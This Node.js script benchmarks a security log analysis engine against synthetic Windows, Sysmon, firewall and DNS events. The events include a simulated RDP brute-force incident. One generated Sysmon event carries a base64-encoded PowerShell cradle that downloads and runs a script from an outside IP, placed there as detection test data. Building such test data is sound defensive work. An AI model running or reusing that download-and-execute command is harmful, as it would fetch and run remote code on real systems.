#!/usr/bin/env node
'use strict';
/**
 * Analysis engine benchmark: one request of N events (default 10,000 and 100,000) through
 * analyze() + narrateDeterministic() + buildAnalysisData() with the repo rules plus the SigmaHQ
 * rule folders. Reports wall time per stage group and peak RSS. Each size runs in a fresh child
 * process so peak memory is per size.
 *
 *   node bench/analysis-bench.js [--sizes 10000,100000] [--repo-rules-only] [--sigma DIR]
 *
 * The batch is synthetic but realistic: Windows Security logons (incl. a brute-force run and a
 * success), Sysmon process creations with command lines (incl. an encoded PowerShell download),
 * firewall connections and Zeek DNS, spread over 24 hours across 200 hosts and 500 users.
 */
const { execFileSync } = require('node:child_process');
const fs = require('node:fs');
const path = require('node:path');
/** Shared data: LANTERN_SHARED, or `shared/` beside the repository. */
const SHARED = path.resolve(process.env.LANTERN_SHARED || path.join(__dirname, '..', '..', 'shared'));

const args = process.argv.slice(2);
const opt = (name, dflt) => {
  const i = args.indexOf(name);
  return i >= 0 ? args[i + 1] : dflt;
};

function makeEvents(n) {
  const t0 = Date.parse('2026-03-01T00:00:00Z');
  const span = 24 * 3600 * 1000;
  const logs = [];
  let seed = 42;
  const rnd = () => {
    seed = (seed * 1103515245 + 12345) % 2147483648;
    return seed / 2147483648;
  };
  const pick = (list) => list[Math.floor(rnd() * list.length)];
  const procs = ['C:\\Windows\\System32\\svchost.exe', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'C:\\Windows\\explorer.exe', 'C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'C:\\Windows\\System32\\whoami.exe', 'C:\\Windows\\System32\\net.exe'];
  const cmds = ['svchost.exe -k netsvcs', 'chrome.exe --type=renderer', 'explorer.exe', 'cmd.exe /c dir', 'powershell.exe -NoProfile Get-Process', 'whoami /all', 'net group "domain admins" /domain'];
  for (let i = 0; i < n; i++) {
    const ts = new Date(t0 + Math.floor((i / n) * span)).toISOString();
    const host = `WS-${Math.floor(rnd() * 200)}`;
    const user = `user${Math.floor(rnd() * 500)}`;
    const kind = rnd();
    if (kind < 0.3) {
      const p = Math.floor(rnd() * procs.length);
      logs.push({ timestamp: ts, source: 'sysmon', EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: host, Image: procs[p], CommandLine: cmds[p], ParentImage: 'C:\\Windows\\explorer.exe', User: `CORP\\${user}`, ProcessId: String(1000 + i), ParentProcessId: '900' });
    } else if (kind < 0.55) {
      logs.push({ timestamp: ts, source: 'windows', EventID: 4624, Channel: 'Security', Computer: host, TargetUserName: user, LogonType: pick([2, 3, 10]), IpAddress: `10.0.${Math.floor(rnd() * 4)}.${Math.floor(rnd() * 250)}` });
    } else if (kind < 0.8) {
      logs.push({ timestamp: ts, source: 'firewall', action: pick(['allow', 'deny']), src_ip: `10.0.1.${Math.floor(rnd() * 250)}`, dst_ip: `${Math.floor(rnd() * 200) + 20}.${Math.floor(rnd() * 250)}.${Math.floor(rnd() * 250)}.${Math.floor(rnd() * 250)}`, dst_port: pick([443, 80, 53, 22, 3389]), protocol: 'tcp' });
    } else {
      logs.push({ ts: (t0 + Math.floor((i / n) * span)) / 1000, _path: 'dns', 'id.orig_h': `10.0.1.${Math.floor(rnd() * 250)}`, 'id.resp_h': '10.0.0.2', proto: 'udp', query: pick(['www.google.com', 'login.microsoftonline.com', 'intranet.corp.example', 'cdn.example.net']), qtype_name: 'A', rcode_name: 'NOERROR' });
    }
  }
  // The incident hidden in the noise.
  const at = (m) => new Date(t0 + 12 * 3600 * 1000 + m * 60000).toISOString();
  for (let k = 0; k < 40; k++) logs.push({ timestamp: at(k / 20), source: 'windows', EventID: 4625, Channel: 'Security', Computer: 'RDS-01', TargetUserName: pick(['admin', 'backup']), LogonType: 10, IpAddress: '80.94.95.112' });
  logs.push({ timestamp: at(3), source: 'windows', EventID: 4624, Channel: 'Security', Computer: 'RDS-01', TargetUserName: 'backup', LogonType: 10, IpAddress: '80.94.95.112' });
  const enc = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://45.9.148.108/a.ps1')", 'utf16le').toString('base64');
  logs.push({ timestamp: at(5), source: 'sysmon', EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: 'RDS-01', Image: procs[4], CommandLine: `powershell.exe -nop -w hidden -enc ${enc}`, ParentImage: 'C:\\Windows\\System32\\cmd.exe', User: 'RDS-01\\backup' });
  return { events: { logs }, context: 'Remote desktop server exposed to the internet', scope: 'incident' };
}

if (process.env.LANTERN_BENCH_CHILD) {
  const { load, root } = require('./ts-register');
  const { loadRuleSet } = load('engine/sigma');
  const { loadAttackCatalog } = load('engine/attack');
  const { analyze, narrateDeterministic, buildAnalysisData } = load('engine/analyze');
  const n = Number(process.env.LANTERN_BENCH_CHILD);
  const sigma = process.env.LANTERN_BENCH_SIGMA;
  const dirs = [path.join(root, 'rules'), ...(sigma ? ['rules', 'rules-compliance', 'rules-emerging-threats', 'rules-threat-hunting'].map((d) => path.join(sigma, d)) : [])].filter((d) => fs.existsSync(d));
  let t = performance.now();
  const ruleSet = loadRuleSet(dirs);
  const catalog = loadAttackCatalog();
  const loadMs = performance.now() - t;
  const request = JSON.parse(JSON.stringify(makeEvents(n)));
  let peak = process.memoryUsage().rss;
  const timer = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 20);
  t = performance.now();
  const stages = {};
  const findings = analyze(request, { ruleSet, catalog, now: () => performance.now(), onStage: (name, stageMs) => (stages[name] = Math.round(stageMs)) });
  const data = buildAnalysisData(findings, narrateDeterministic(findings));
  const ms = performance.now() - t;
  peak = Math.max(peak, process.memoryUsage().rss);
  clearInterval(timer);
  process.stdout.write(JSON.stringify({
    events: findings.stats.events, rules: ruleSet.size, rule_load_ms: Math.round(loadMs), analyze_ms: Math.round(ms),
    events_per_s: Math.round((findings.stats.events / ms) * 1000), peak_rss_mb: Math.round(peak / 1048576),
    detections: findings.detections.length, chains: findings.chains.length, severity: data.severity,
    stages,
    top: data.attack_mapping.slice(0, 5).map((t) => `${t.technique_id}(${t.confidence})`).join(' '),
  }));
  process.exit(0);
}

const stageLines = [];
const sizes = opt('--sizes', '10000,100000').split(',').map(Number);
const sigma = args.includes('--repo-rules-only') ? '' : opt('--sigma', path.join(SHARED, 'sigma'));
console.log(`node ${process.version}, rules: repo${sigma ? ' + SigmaHQ (' + sigma + ')' : ''}`);
console.log('| events | rules | rule load ms | analyze ms | events/s | peak RSS MB | detections | chains | severity | top techniques |');
console.log('|---|---|---|---|---|---|---|---|---|---|');
for (const n of sizes) {
  const out = execFileSync(process.execPath, ['--max-old-space-size=4096', __filename], { env: { ...process.env, LANTERN_BENCH_CHILD: String(n), LANTERN_BENCH_SIGMA: sigma }, maxBuffer: 1 << 24 });
  const r = JSON.parse(out.toString());
  console.log(`| ${r.events} | ${r.rules} | ${r.rule_load_ms} | ${r.analyze_ms} | ${r.events_per_s} | ${r.peak_rss_mb} | ${r.detections} | ${r.chains} | ${r.severity} | ${r.top} |`);
  stageLines.push(`${r.events} events: ${Object.entries(r.stages).map(([k, v]) => `${k} ${v} ms`).join(', ')}`);
}
console.log('\nPer stage:');
for (const l of stageLines) console.log(`- ${l}`);
